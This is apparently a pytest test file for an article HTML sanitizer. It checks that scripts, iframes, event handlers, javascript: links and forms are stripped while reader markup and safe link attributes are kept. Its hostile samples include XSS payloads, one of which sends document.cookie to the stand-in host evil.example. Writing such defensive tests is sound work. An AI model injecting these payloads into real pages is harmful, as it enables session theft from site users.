from __future__ import annotations

import lxml.html
import pytest

from backend.app.services.html_sanitizer import sanitize_article_html

HOSTILE_SAMPLES: tuple[str, ...] = (
    '<p>Intro</p><script>document.location="https://evil.example/?c="+document.cookie</script>',
    '<img src="https://img.gamespot.com/1.jpg" onerror="alert(1)" alt="cover">',
    '<div><iframe src="https://evil.example/embed"></iframe><p>After frame</p></div>',
    '<p onclick="steal()">Click <a href="javascript:alert(1)">here</a></p>',
    '<form action="/login"><input name="password"><button>Go</button></form><p>Text</p>',
    '<svg><script>alert(1)</script></svg><p>svg</p>',
    '<p>ok</p><SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
    '<a href="https://www.gamespot.com/" onmouseover="x()">hover</a>',
)

ARTICLE_SAMPLES: tuple[str, ...] = (
    (
        '<div id="readability-page-1" class="page"><h2>Verdict</h2>'
        '<p class="lead" style="font-weight: bold">Great &amp; bold.</p>'
        '<figure><img src="https://img.gamespot.com/a.jpg" alt="Boss" title="Boss fight">'
        "<figcaption>Caption</figcaption></figure>"
        '<ul><li><a href="https://www.gamespot.com/reviews/" name="r">Reviews</a></li></ul>'
        "<blockquote>Quote</blockquote><table><tbody><tr><td>9/10</td></tr></tbody></table></div>"
    ),
    '<p>Plain <strong>strong</strong> <em>em</em> <code>code</code><br>line</p>',
    *HOSTILE_SAMPLES,
)


def _anchors(html: str) -> list[lxml.html.HtmlElement]:
    root = lxml.html.fragment_fromstring(html or "<span></span>", create_parent="div")
    return list(root.iter("a"))


@pytest.mark.parametrize("sample", HOSTILE_SAMPLES)
def test_sanitizer_strips_active_content(sample: str) -> None:
    cleaned = sanitize_article_html(sample)
    lowered = cleaned.lower()
    assert "<script" not in lowered
    assert "<iframe" not in lowered
    assert "onerror=" not in lowered
    assert "onclick=" not in lowered
    assert "onmouseover=" not in lowered
    assert "javascript:" not in lowered
    assert "<form" not in lowered
    assert "<input" not in lowered
    assert "document.cookie" not in lowered


@pytest.mark.parametrize("sample", ARTICLE_SAMPLES)
def test_sanitizer_is_idempotent(sample: str) -> None:
    once = sanitize_article_html(sample)
    assert sanitize_article_html(once) == once


def test_sanitizer_keeps_reader_markup() -> None:
    cleaned = sanitize_article_html(ARTICLE_SAMPLES[0])
    root = lxml.html.fragment_fromstring(cleaned, create_parent="div")

    page = root.find("div")
    assert page is not None
    assert page.get("id") == "readability-page-1"
    assert page.get("class") == "page"

    lead = root.find(".//p")
    assert lead is not None
    assert lead.get("style") == "font-weight: bold"
    assert lead.text_content() == "Great & bold."

    image = root.find(".//figure/img")
    assert image is not None
    assert image.get("src") == "https://img.gamespot.com/a.jpg"
    assert image.get("alt") == "Boss"
    assert image.get("title") == "Boss fight"
    assert root.find(".//figure/figcaption") is not None
    assert root.find(".//table//td") is not None
    assert root.find(".//blockquote") is not None


@pytest.mark.parametrize(
    "anchor",
    [
        '<a href="https://www.gamespot.com/news/">News</a>',
        '<a href="https://www.gamespot.com/news/" target="_self" rel="opener nofollow">News</a>',
        '<a href="/relative/path" target="_top">Relative</a>',
        '<p>Inline <a href="https://example.com" rel="noreferrer">link</a> text</p>',
    ],
)
def test_sanitizer_forces_new_tab_without_opener(anchor: str) -> None:
    cleaned = sanitize_article_html(anchor)
    anchors = _anchors(cleaned)
    assert anchors
    for element in anchors:
        assert element.get("target") == "_blank"
        assert element.get("rel") == "noopener"
        assert element.get("href")


def test_sanitizer_drops_disallowed_attributes() -> None:
    cleaned = sanitize_article_html(
        '<img src="https://img.gamespot.com/b.jpg" width="600" data-src="x" loading="lazy">'
        '<a href="https://www.gamespot.com/" download="x" name="top">Top</a>'
    )
    root = lxml.html.fragment_fromstring(cleaned, create_parent="div")
    image = root.find("img")
    assert image is not None
    assert set(image.attrib) == {"src"}
    anchor = root.find("a")
    assert anchor is not None
    assert set(anchor.attrib) == {"href", "name", "target", "rel"}


def test_sanitizer_returns_empty_string_for_blank_input() -> None:
    assert sanitize_article_html("") == ""
    assert sanitize_article_html("   \n ") == ""
